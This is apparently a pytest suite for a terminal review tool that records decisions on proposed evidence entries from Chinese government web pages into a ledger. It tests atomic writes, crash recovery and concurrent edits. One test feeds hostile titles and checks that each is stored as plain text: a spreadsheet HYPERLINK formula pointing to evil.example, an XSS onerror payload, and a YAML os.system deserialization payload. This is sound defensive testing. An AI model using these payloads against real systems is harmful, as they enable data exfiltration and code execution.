"""Proposals are decided by a person at the terminal: a yes writes what the desk's form writes, and all of it or nothing."""

from __future__ import annotations

import os
import signal
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
from gongkai.files import leftovers, writer
from gongkai.records import loading
from gongkai.scout import proposed
from gongkai.scout.proposed import Decision, ProposedColumn
from gongkai.scout.snapshots import Page
from gongkai.verbs.reviewing import Review
from helpers.clerks import AS_OF, Clerk, copied, desk_of
from helpers.desk_server import Counter, fields_in, soup
from helpers.seen_titles import ADDRESS, BY, COLUMN, FOLDER, ISSUED, LIBRARY, OTHER, PAGE, PLACE, YEAR, decisions, entry, keep

ANSWERS = {"谁核对的": BY, "您打开这个网址看过了吗": "1", "覆盖范围": "1", "写入吗？": "1"}


@pytest.fixture
def data(tmp_path: Path) -> Path:
    data = copied(tmp_path, PLACE).root
    keep(data, COLUMN, entry())
    return data


def files(data: Path) -> dict[str, bytes]:
    return {path.relative_to(data).as_posix(): path.read_bytes() for path in sorted(data.rglob("*")) if path.is_file()}


def others(data: Path, before: Mapping[str, bytes]) -> dict[str, str]:
    """What is not as it was."""
    return {name: content.decode() for name, content in files(data).items() if before.get(name) != content}


def review(data: Path, answers: Callable[[str], str], page: Page | str = PAGE) -> list[str]:
    """What is said to somebody who answers so."""
    clerk = Clerk(answers)
    Review(desk_of(data), PLACE, YEAR, clerk.terminal, lambda _: page).run()
    return clerk.said


def saying(*ways: str, **more: str) -> Callable[[str], str]:
    """The same of all else, and these of each proposal in turn."""
    left = list(ways)
    return lambda title: left.pop(0) if title == "这一条是不是" else {**ANSWERS, **more}[title]


YES, NO, LATER, END = "1", "2", "3", "4"


@pytest.mark.sweep
def test_a_yes_writes_what_the_form_of_the_desk_writes_with_the_copy_of_the_page(data: Path, tmp_path: Path) -> None:
    before = files(data)
    said = review(data, saying(YES))
    new = others(data, before)
    (ledger,) = (name for name in new if name.startswith(f"{FOLDER}/ledger/"))
    copy = f"{FOLDER}/snapshots/{PAGE.sha256[:16]}.txt"

    assert new.keys() == {ledger, copy, f"{FOLDER}/proposals/{COLUMN}.yaml"}
    assert new[copy] == "铜梁区规范性文件库\n\n现行有效\n失效和废止\n"
    assert decisions(data) == [Decision(said="yes", by=BY, on=AS_OF)]
    assert loading.look(data).faults == ()
    assert any("已写入" in line for line in said)

    (tmp_path / "form").mkdir()
    counter = Counter.over(copied(tmp_path / "form", PLACE).root)
    (counter.data / FOLDER / "snapshots").mkdir()
    (counter.data / copy).write_text(new[copy], encoding="utf-8")
    address = f"/desk/{PLACE}/{YEAR}/3.1.3/record?kind=evidence"
    day = AS_OF.isoformat()
    typed = {
        "title": "铜梁区规范性文件库",
        "url": ADDRESS,
        "published_on": "2021-06-01",
        "found_in": COLUMN,
        "covers": "full",
        "measures": "2",
        "units": "sifaju",
        "on": day,
        "by": BY,
        "seen_on": day,
        "opened.by": BY,
        "opened.on": day,
        "snapshot.hash": PAGE.sha256,
        "snapshot.on": day,
        "snapshot.file": f"{PAGE.sha256[:16]}.txt",
    }
    shown = counter.send(address, {**fields_in(counter.get(address)), **typed, "-step": "show"})
    assert shown.status_code == 200, soup(shown).select_one("[role=alert]")
    assert counter.send(address, {**fields_in(shown), "-step": "write"}).status_code == 303
    assert (counter.data / ledger).read_text(encoding="utf-8") == new[ledger]


def test_a_page_that_does_not_open_is_told_and_the_entry_written_all_the_same(data: Path) -> None:
    before = files(data)
    said = review(data, saying(YES), "网站说没有这个网页（状态 404）。")
    new = others(data, before)

    assert "没有留存网页：网站说没有这个网页（状态 404）。登记照写。" in said
    assert {name.split("/")[2] for name in new} == {"ledger", "proposals"}
    assert not any("snapshot" in text for text in new.values())


def test_a_picture_is_known_again_by_its_sum_alone(data: Path) -> None:
    before = files(data)
    review(data, saying(YES), Page("", "", AS_OF, "a" * 64))
    new = others(data, before)

    assert {name.split("/")[2] for name in new} == {"ledger", "proposals"}
    assert any(f"snapshot: {{hash: {'a' * 64}, on: {AS_OF}}}" in text for text in new.values())


@pytest.mark.parametrize("way", [NO, LATER], ids=["no", "later"])
def test_no_and_later_change_nothing_but_that_they_were_said(data: Path, way: str) -> None:
    before = files(data)
    review(data, saying(way))

    assert others(data, before).keys() == {f"{FOLDER}/proposals/{COLUMN}.yaml"}
    assert decisions(data) == [Decision(said="no" if way == NO else "later", by=BY, on=AS_OF)]


def test_whoever_has_not_opened_the_page_writes_nothing(data: Path) -> None:
    before = files(data)
    review(data, saying(YES, END, 您打开这个网址看过了吗="2"))
    assert others(data, before) == {}


def test_whoever_does_not_agree_is_asked_again(data: Path) -> None:
    before = files(data)
    review(data, saying(YES, END, **{"写入吗？": "2"}))
    assert others(data, before) == {}


def test_the_surest_come_first_and_what_was_put_off_last_and_whoever_stops_goes_on(data: Path) -> None:
    likely, unlikely = entry("甲", "https://www.cqstl.gov.cn/2.html"), entry("乙", "https://www.cqstl.gov.cn/3.html", ISSUED)
    keep(data, COLUMN, unlikely, entry("丙").model_copy(update={"decision": Decision(said="later", by=BY, on=AS_OF)}))
    keep(data, OTHER, likely, unlikely.model_copy(update={"url": "http://cqstl.gov.cn/3.html"}))
    seen = [line.partition("（")[0] for line in review(data, saying(NO, END)) if line.endswith("（2021年6月1日）")]
    assert seen == ["甲", "乙"]

    again = [line.partition("（")[0] for line in review(data, saying(NO, LATER)) if line.endswith("（2021年6月1日）")]
    assert again == ["乙", "丙"]
    # The same page in two columns is decided once.
    assert [it.said if it else None for it in (*decisions(data), *decisions(data, OTHER))] == ["no", "later", "no", "no"]


def test_several_measures_of_a_unit_are_one_entry(data: Path) -> None:
    keep(data, COLUMN, entry("铜梁区规范性文件库", ADDRESS, LIBRARY, ISSUED))
    before = files(data)
    review(data, saying(YES, 是哪一项的="1,2"))
    ledgers = [text for name, text in others(data, before).items() if "/ledger/" in name]
    assert len(ledgers) == 1
    assert "measures: [1, 2]" in ledgers[0]


def test_a_unit_that_does_not_owe_the_task_is_asked_for(data: Path) -> None:
    keep(data, COLUMN, entry("铜梁区规范性文件库", ADDRESS, LIBRARY.model_copy(update={"unit": "nobody"})))
    before = files(data)
    review(data, saying(YES, 单位="区司法局"))
    (ledger,) = (text for name, text in others(data, before).items() if "/ledger/" in name)
    assert "units: [sifaju]" in ledger


@pytest.mark.sweep
def test_what_somebody_entered_meanwhile_waits_no_more(data: Path) -> None:
    review(data, saying(YES))
    keep(data, OTHER, entry())
    assert review(data, saying()) == ["0 条线索等人核对，把握大的在前。回答随时写好，可以随时退出，下次接着核对。"]


@pytest.mark.sweep
@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("https://evil.example/"&A1)',
        "<img src=x onerror=alert(1)>&lt;",
        "a: [b, &c *d] # e",
        "- !!python/object/apply:os.system [x]",
        "'\"|>%@`",
    ],
)
def test_a_hostile_title_stays_a_text(data: Path, title: str) -> None:
    keep(data, COLUMN, entry(title))
    review(data, saying(YES))
    plan = loading.load(data).jurisdictions[0].plans[0]
    assert [it.title for it in plan.ledger.evidence if it.url == ADDRESS] == [title]


@pytest.mark.sweep
@pytest.mark.parametrize("number", range(4))
def test_whoever_is_killed_has_written_all_or_nothing(data: Path, number: int) -> None:
    """Killed before the first, between two, and after the last of the three files is put in its place."""
    before = files(data)
    child = os.fork()
    if not child:
        try:
            _dies_at(number)
            review(data, saying(YES))
        finally:
            os._exit(0)
    status = os.waitpid(child, 0)[1]
    leftovers.recover_all(data)
    now = files(data)

    assert os.WIFSIGNALED(status) == (number < 3)
    assert now == before or len(others(data, before)) == 3
    assert loading.look(data).faults == ()


def _dies_at(number: int) -> None:
    put, times = writer._put, []

    def dying(*arguments: object) -> None:
        if len(times) == number:
            os.kill(os.getpid(), signal.SIGKILL)
        times.append(1)
        put(*arguments)  # type: ignore[arg-type]

    writer._put = dying  # type: ignore[assignment]


@pytest.mark.sweep
def test_a_file_that_was_changed_meanwhile_is_not_written_over(data: Path) -> None:
    """Another decision in the same column while somebody reads the page."""
    file = proposed.file(data / FOLDER, COLUMN)

    def answer(title: str) -> str:
        if title == "写入吗？":
            file.write_text(ProposedColumn(column=COLUMN, entries=(entry("改过"),)).text, encoding="utf-8")
        return saying(*ways)(title) if title != "这一条是不是" else ways.pop(0)

    ways, before = [YES, END], files(data)
    said = review(data, answer)
    assert others(data, before).keys() == {f"{FOLDER}/proposals/{COLUMN}.yaml"}
    assert "改过" in file.read_text(encoding="utf-8")
    assert any("在您查看以后被改过，所以什么也没有写" in line for line in said)


@pytest.mark.sweep
def test_what_is_done_waits_no_more_and_what_is_done_in_part_does(data: Path) -> None:
    second = entry("铜梁区规范性文件库（更新）", "https://www.cqstl.gov.cn/zwgk/2.html")
    keep(data, COLUMN, entry(), second)
    assert review(data, saying(YES, END, 覆盖范围="2"))[0].startswith("2 条")
    assert review(data, saying(YES))[0].startswith("1 条")
    keep(data, OTHER, entry("又一个", "https://www.cqstl.gov.cn/zwgk/3.html"))
    assert review(data, saying())[0].startswith("0 条")
